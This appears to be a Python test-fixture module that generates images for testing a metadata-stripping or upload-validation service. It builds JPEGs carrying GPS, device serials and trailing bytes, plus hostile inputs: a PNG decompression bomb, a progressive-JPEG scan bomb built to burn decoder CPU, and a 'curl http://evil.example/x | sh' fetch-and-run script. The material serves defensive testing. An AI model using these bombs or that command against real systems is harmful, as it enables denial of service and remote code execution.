"""Test images: real encoders, with and without metadata, plus hostile inputs."""
from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def jpeg_with_gps(size=(64, 48), colour=(200, 30, 30)) -> bytes:
    image = Image.new("RGB", size, colour)
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"          # Make
    exif[0x0110] = "Model X-123"         # Model
    exif[0xA431] = "SERIAL-0042"         # BodySerialNumber (device serial)
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (34.0, 6.0, 53.0)    # GPSLatitude
    gps[3], gps[4] = "E", (71.0, 5.0, 5.0)     # GPSLongitude
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=90)
    return out.getvalue()


def jpeg_with_everything(size=(96, 64), orientation: int = 1) -> bytes:
    """A JPEG carrying every kind of metadata a phone or editor writes: EXIF (GPS, serial,
    orientation), XMP, an ICC profile, a comment, and bytes after the end of the image."""
    from PIL import ImageCms
    image = Image.frombytes("RGB", size, bytes((i * 7) % 251 for i in range(size[0] * size[1] * 3)))
    exif = Image.Exif()
    exif[0x010F], exif[0xA431], exif[0x0112] = "PhoneMaker", "SERIAL-0042", orientation
    taken = exif.get_ifd(0x8769)
    taken[0x9003], taken[0x9011] = "2026:11:20 09:15:02", "+04:30"  # when, Kabul time
    gps = exif.get_ifd(0x8825)
    gps[1], gps[2] = "N", (34.0, 6.0, 53.0)
    icc = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=90, icc_profile=icc, comment=b"CAMERA-OWNER",
               xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/">GPS 34.11 71.08</x:xmpmeta>')
    return out.getvalue() + b"TRAILING-SECRET"


def mpo_with_depth_map() -> bytes:
    """A phone's multi-picture JPEG (MPO): the photo, then a second picture (a depth map)."""
    photo = Image.new("RGB", (64, 48), (200, 10, 10))
    out = io.BytesIO()
    photo.save(out, "MPO", save_all=True, append_images=[Image.new("L", (32, 24), 128)])
    return out.getvalue()


def segments(jpeg: bytes) -> list[int]:
    """The markers of a JPEG's header segments, in order, up to the first scan."""
    found, i = [], 2
    while i + 4 <= len(jpeg) and jpeg[i] == 0xFF:
        marker = jpeg[i + 1]
        found.append(marker)
        if marker == 0xDA:
            break
        i += 2 + int.from_bytes(jpeg[i + 2:i + 4], "big")
    return found


def png(size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 60)).save(out, "PNG")
    return out.getvalue()


def webp(size=(40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 60, 160)).save(out, "WEBP")
    return out.getvalue()


def photo_of_bytes(n: int) -> bytes:
    """A noisy JPEG of roughly n bytes (noise does not compress)."""
    import os
    side = int((n / 1.6) ** 0.5)
    image = Image.frombytes("RGB", (side, side), os.urandom(side * side * 3))
    out = io.BytesIO()
    image.save(out, "JPEG", quality=85)
    return out.getvalue()


SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"


def png_bomb(width=10_000, height=5_000) -> bytes:
    """A tiny file whose header claims 50 megapixels: refused before anything is decoded."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(
            ">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
    raw = zlib.compress(b"\x00" * (width // 8 + 1) * 16)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 1, 0, 0,
                                                             0, 0))
            + chunk(b"IDAT", raw) + chunk(b"IEND", b""))


class _Bits:
    """Entropy-coded bits of one JPEG scan: MSB first, padded with 1s, 0xFF stuffed."""

    def __init__(self):
        self.value, self.count, self.out = 0, 0, bytearray()

    def put(self, value: int, length: int) -> None:
        self.value, self.count = (self.value << length) | value, self.count + length
        while self.count >= 8:
            self.count -= 8
            byte = (self.value >> self.count) & 0xFF
            self.out += b"\xff\x00" if byte == 0xFF else bytes([byte])
        self.value &= (1 << self.count) - 1

    def done(self) -> bytes:
        if self.count:
            self.put((1 << (8 - self.count)) - 1, 8 - self.count)
        return bytes(self.out)


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def progressive_scan_bomb(width: int = 6000, height: int = 6000, bands: int = 63) -> bytes:
    """A valid grey progressive JPEG of a flat picture made of 1 + 14 x `bands` scans: one DC
    scan, then for every AC coefficient its first scan at the deepest successive approximation
    (Al = 13) and all 13 refinements. Every AC scan is a few end-of-band runs (a few dozen
    bytes), yet the decoder walks every block of the picture once per scan: with the default
    6000x6000 and 63 bands, 883 scans in about 120 KB cost seconds of CPU to decode."""
    blocks = -(-width // 8) * -(-height // 8)
    # Huffman tables: DC 0 with the single symbol 0 (no difference), code '0'; AC 1 with the
    # end-of-band runs EOB0..EOB14 (symbols 0x00, 0x10 ... 0xE0), 4-bit codes 0000..1110.
    dc_table = bytes([0x00]) + bytes([1] + [0] * 15) + bytes([0x00])
    eob_symbols = bytes(r << 4 for r in range(15))
    ac_table = bytes([0x11]) + bytes([0, 0, 0, 15] + [0] * 12) + eob_symbols
    head = (b"\xff\xd8" + _segment(0xDB, bytes([0]) + bytes([1] * 64))
            + _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0]))
            + _segment(0xC4, dc_table) + _segment(0xC4, ac_table))

    def sos(ss: int, se: int, ah: int, al: int, tables: int) -> bytes:
        return _segment(0xDA, bytes([1, 1, tables, ss, se, (ah << 4) | al]))

    dc = _Bits()
    for _ in range(blocks):
        dc.put(0, 1)
    scans = [sos(0, 0, 0, 0, 0x00) + dc.done()]
    runs = _Bits()
    left = blocks
    while left:
        run = min(left, 32767)
        r = run.bit_length() - 1
        runs.put(r, 4)
        runs.put(run - (1 << r), r)
        left -= run
    ac_data = runs.done()
    for k in range(1, bands + 1):
        for al in range(13, -1, -1):
            scans.append(sos(k, k, 0 if al == 13 else al + 1, al, 0x01) + ac_data)
    return head + b"".join(scans) + b"\xff\xd9"
